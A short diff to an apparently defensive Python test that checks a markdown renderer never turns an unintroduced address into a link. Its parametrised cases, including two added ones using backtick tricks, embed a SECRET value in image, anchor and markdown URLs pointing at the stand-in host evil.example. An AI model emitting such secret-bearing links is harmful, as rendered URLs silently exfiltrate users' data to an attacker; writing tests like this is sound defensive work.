@@ -61,6 +61,8 @@ def _in_link(children: Sequence[Token], wanted: Token) -> bool:
         f'<img src="https://evil.example/{SECRET}">',
         f'<a href="https://evil.example/{SECRET}">x</a>',
         f"[{GOOD}](https://evil.example/{SECRET})",
+        f"https://evil.example/{SECRET}`[```[`",
+        f"`a`https://evil.example/{SECRET}`b`",
     ],
 )
 def test_an_address_that_nobody_brought_in_is_never_a_link(text):
